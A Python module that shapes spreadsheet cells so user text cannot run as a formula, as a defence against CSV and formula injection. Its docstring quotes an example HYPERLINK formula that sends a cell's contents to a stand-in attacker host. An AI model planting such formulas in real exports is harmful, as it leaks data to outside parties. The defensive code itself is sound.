"""Cells of the spreadsheets we write (.xlsx and .csv): text from users stays text.

Every xlsx and csv writer puts its values through here, so a customer named `=1+1` or
`=HYPERLINK("http://evil.example/?x="&A1,"click")` is shown as those characters and never
runs as a formula in Excel, WPS or LibreOffice (formula injection, OWASP "CSV injection"):

- xlsx: text is always written as a string cell; text that a spreadsheet would read as a
  formula (it starts with = + - @, a tab or a carriage return) also gets the quotePrefix
  style, Excel's leading apostrophe, so editing the cell keeps it text.
- csv: a csv has no cell types, so such text is written with a leading `'`, which every
  spreadsheet shows as text; our own import drops that `'` again (`csv_unquote`).
- Control characters that the xlsx format cannot hold are dropped (they may still be in
  data stored before they were refused at input), and a cell is cut at Excel's limit of
  32,767 characters.

No Django here: the writers pass their values, this module only shapes cells.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from copy import copy

from openpyxl.cell import WriteOnlyCell

FORMULA_STARTS = frozenset("=+-@\t\r")
MAX_CELL_CHARS = 32767  # Excel's limit for one cell
# What XML 1.0 (and so an .xlsx) cannot hold: C0 controls except tab, newline and return.
ILLEGAL_CHARACTERS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def clean_text(value: str) -> str:
    """The text without the control characters a workbook cannot hold, cut to one cell."""
    if ILLEGAL_CHARACTERS.search(value):
        value = ILLEGAL_CHARACTERS.sub("", value)
    return value[:MAX_CELL_CHARS]


def looks_like_formula(value: str) -> bool:
    return bool(value) and value[0] in FORMULA_STARTS


def csv_value(value: object) -> object:
    """One csv cell: None is empty, text is cleaned and a would-be formula quoted with `'`."""
    if value is None:
        return ""
    if isinstance(value, str):
        value = clean_text(value)
        if looks_like_formula(value):
            return "'" + value[: MAX_CELL_CHARS - 1]
    return value


def csv_row(values: Iterable[object]) -> list[object]:
    return [csv_value(value) for value in values]


def csv_unquote(value: str) -> str:
    """The text a csv cell written by `csv_value` stands for: `'=1+1` is `=1+1`."""
    if len(value) > 1 and value[0] == "'" and value[1] in FORMULA_STARTS:
        return value[1:]
    return value


def set_value(cell, value: object):
    """Put `value` into an openpyxl cell (a worksheet's or a write-only one) as data, never
    as a formula; returns the cell."""
    if not isinstance(value, str):
        cell.value = value
        return cell
    value = clean_text(value)
    cell.value = value
    if looks_like_formula(value):
        cell.data_type = "s"  # openpyxl takes any text starting with "=" for a formula
        # Write-only cells may share one style object among many cells: change a copy.
        cell._style = copy(cell._style)
        cell.quotePrefix = True
    return cell


# One search tells whether a text needs any of the above (most do not: the fast path).
_NEEDS_SHAPING = re.compile(r"\A[=+\-@\t\r]|[\x00-\x08\x0b\x0c\x0e-\x1f]")


def write_only_cell(sheet, value: object, style=None):
    """A cell for `sheet.append` in a write-only workbook; `style` is a registered style
    array shared by many cells (see forecast.xlsx); plain values take the short way. Rows by
    the hundred thousand go in as XML text instead (`xlsx_rows`), with the same shaping."""
    if isinstance(value, str) and (
        len(value) > MAX_CELL_CHARS or _NEEDS_SHAPING.search(value) is not None
    ):
        cell = WriteOnlyCell(sheet)
        if style is not None:
            cell._style = style
        return set_value(cell, value)
    cell = WriteOnlyCell(sheet, value=value)
    if style is not None:
        cell._style = style
    return cell
